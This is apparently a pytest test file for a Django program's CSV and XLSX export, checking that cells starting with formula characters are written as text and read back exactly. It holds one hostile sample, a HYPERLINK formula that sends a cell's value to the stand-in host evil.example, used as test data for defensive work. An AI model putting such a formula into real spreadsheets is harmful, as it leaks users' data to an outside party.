"""Formula injection: text that a spreadsheet would run is written as text in every CSV and
XLSX file the program writes, and the program files still round-trip exactly."""

from __future__ import annotations

import csv
import io

import pytest
from django.core.management import call_command
from hypothesis import given
from hypothesis import strategies as st

from post_program import import_export
from post_program.models import Physician
from post_program.spreadsheets import cell_read, cell_written
from tests.factories import PhysicianFactory

ATTACK = '=HYPERLINK("http://evil.example/?"&A1,"Open")'


@given(st.text())
def test_every_text_reads_back_as_it_was_written(text):
    assert cell_read(cell_written(text)) == text
    written = cell_written(text)
    assert not written.startswith(("=", "+", "-", "@", "\t", "\r"))


@pytest.mark.django_db
def test_a_name_typed_as_a_formula_is_text_in_the_program_files_and_comes_back_exactly(tmp_path):
    physician = PhysicianFactory(name=ATTACK, email="eve@example.org")
    call_command("export_program", str(tmp_path), "--identified", stdout=io.StringIO())
    with (tmp_path / "physicians.csv").open(encoding="utf-8") as handle:
        names = [row["name"] for row in csv.DictReader(handle)]
    assert "'" + ATTACK in names and ATTACK not in names
    Physician.objects.filter(pk=physician.pk).update(name="changed meanwhile")
    call_command("import_program", str(tmp_path), stdout=io.StringIO())
    assert Physician.objects.get(pk=physician.pk).name == ATTACK


@pytest.mark.django_db
def test_reading_takes_off_only_the_apostrophe_the_writer_added():
    buffer = io.StringIO()
    csv.writer(buffer).writerows(
        [["physician_id", "name"], ["P9", "'" + ATTACK], ["P10", "'t Hooft"]]
    )
    files = import_export.read_files(
        {"physicians.csv": buffer.getvalue().encode()}, import_export.file_specs()
    )
    names = [cells[1] for _, cells in files["physicians.csv"].rows]
    assert names == [ATTACK, "'t Hooft"]
